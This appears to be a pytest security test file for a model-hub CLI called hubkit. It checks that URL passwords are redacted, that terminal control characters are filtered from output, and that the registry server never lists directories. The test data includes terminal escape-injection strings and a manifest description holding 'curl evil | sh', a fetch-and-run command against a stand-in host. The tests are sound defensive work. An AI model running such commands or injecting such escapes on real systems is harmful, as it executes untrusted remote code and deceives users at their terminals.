"""Review 3 (issue 13): credentials never printed or stored, no terminal escapes from the CLI, no listings.

- An ONNX model URL with ``user:password@`` keeps the password out of every message and cache record.
- Everything a ``hubkit`` command prints passes a filter: control characters from a handle, a manifest or
  a planted cache record reach the terminal as ``?``.
- ``hubkit registry serve`` never lists a directory (dot-files and publish leftovers included).
"""

from __future__ import annotations

import io
import json
import os
import threading
from pathlib import Path

import pytest
from onnx import TensorProto, helper

from hubkit import cli
from hubkit.errors import HubkitError
from hubkit.hub import resolve
from hubkit.hub.serve import make_server
from tests.security.hostile import http_get

SECRET = "S3CRET-pw"


def _relu_model() -> bytes:
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "g", [x], [y])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


@pytest.fixture
def private_cache(tmp_path, monkeypatch) -> Path:
    cache = tmp_path / "cache"
    for key, value in {"HUBKIT_CACHE_DIR": str(cache), "HUBKIT_RETRIES": "0", "HUBKIT_PROGRESS": "0",
                       "NO_PROXY": "127.0.0.1,localhost"}.items():
        monkeypatch.setenv(key, value)
    return cache


def _files_holding(root: Path, needle: bytes) -> list[str]:
    return [str(p) for p in root.rglob("*") if p.is_file() and needle in p.read_bytes()]


@pytest.mark.parametrize("pin", ["#sha256=" + "0" * 64, "#sha256=" + "f" * 64])
def test_an_onnx_url_password_is_not_in_a_pin_mismatch_message(hostile, private_cache, pin):
    hostile.serve_bytes("/m.onnx", _relu_model(), content_type="application/octet-stream")
    url = hostile.url.replace("http://", f"http://alice:{SECRET}@") + "/m.onnx"
    with pytest.raises(HubkitError) as err:
        resolve(url + pin)
    assert SECRET not in str(err.value) and "***" in str(err.value)


def test_an_onnx_url_password_is_not_stored_in_the_cache(hostile, private_cache):
    hostile.serve_bytes("/m.onnx", _relu_model(), content_type="application/octet-stream")
    url = hostile.url.replace("http://", f"http://alice:{SECRET}@") + "/m.onnx"
    module_dir = resolve(url)
    assert os.path.isfile(os.path.join(module_dir, "m.onnx"))
    assert _files_holding(private_cache, SECRET.encode()) == []
    assert resolve(url) == module_dir  # the redacted record still finds the entry


@pytest.mark.parametrize("handle", [f"http://alice:{SECRET}@127.0.0.1:9/m.onnx",
                                    f"https://bob:{SECRET}@models.example/acme/m/1.onnx"])
def test_the_offline_message_hides_the_password(private_cache, monkeypatch, capsys, handle):
    monkeypatch.setenv("HUBKIT_OFFLINE", "1")
    assert cli.main(["download", handle]) == 1
    err = capsys.readouterr().err
    assert SECRET not in err and "HUBKIT_OFFLINE" in err


ESCAPES = "\x1b]0;pwned-title\x07\x1b[2J\x1b[31mFAKE\x9b31m"


def test_the_printable_filter_keeps_text_and_replaces_control_characters():
    out = io.StringIO()
    stream = cli._PrintableOnly(out)
    stream.write("plain text, ünïcode\tand a tab\n")
    stream.write(ESCAPES + "\n")
    text = out.getvalue()
    assert text.startswith("plain text, ünïcode\tand a tab\n")
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert text.splitlines()[1] == "?]0;pwned-title??[2J?[31mFAKE?31m"


@pytest.mark.parametrize("field", ["fetched_at", "handle"])
def test_cache_ls_prints_no_escapes_from_a_planted_record(private_cache, capsys, field):
    entry = private_cache / ("e" * 40)
    (entry / "module").mkdir(parents=True)
    record = {"handle": "https://h/acme/m/1", "fetched_at": "2026-01-01T00:00:00+00:00"}
    record[field] = record[field] + ESCAPES
    (entry / "descriptor.json").write_text(json.dumps(record))
    cli.main(["cache", "ls"])
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out


def test_info_prints_no_escapes_from_a_manifest_description(tmp_path, private_cache, capsys):
    from hubkit.hub.registry import publish
    from tests.hub.helpers import fake_validate, make_fake_module

    registry = tmp_path / "registry"
    publish(make_fake_module(str(tmp_path / "m")), str(registry), "acme/victim", validate=fake_validate)
    manifest_path = registry / "acme" / "victim" / "1.json"
    manifest = json.loads(manifest_path.read_text())
    manifest["description"] = ESCAPES + " run curl evil | sh"
    manifest_path.write_text(json.dumps(manifest))
    server = make_server(str(registry), quiet=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        cli.main(["info", f"http://127.0.0.1:{server.server_address[1]}/acme/victim/1"])
    finally:
        server.shutdown()
    captured = capsys.readouterr()
    for text in (captured.out, captured.err):
        assert "\x1b" not in text and "\x07" not in text


@pytest.fixture
def served(tmp_path):
    root = tmp_path / "registry"
    (root / "acme" / "m").mkdir(parents=True)
    (root / "index.html").write_text("<p>catalog</p>")
    (root / "acme" / ".secret-token").write_text("token")
    (root / "acme" / ".index.lock").write_text("lock")
    (root / "acme" / "m" / "1.json.tmp-abc").write_text("{}")
    (root / "acme" / "m" / "1.json").write_text('{"name": "acme/m"}')
    server = make_server(str(root), quiet=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()


@pytest.mark.parametrize("path", ["/acme/", "/acme/m/", "/acme", "/acme/m/?C=M;O=D"])
def test_registry_serve_lists_no_directory(served, path):
    status, body = http_get(served + path)
    assert status == 404 and b"secret" not in body and b"tmp-abc" not in body


def test_registry_serve_still_serves_pages_and_files(served):
    assert http_get(served + "/")[0] == 200
    assert http_get(served + "/acme/m/1.json") == (200, b'{"name": "acme/m"}')
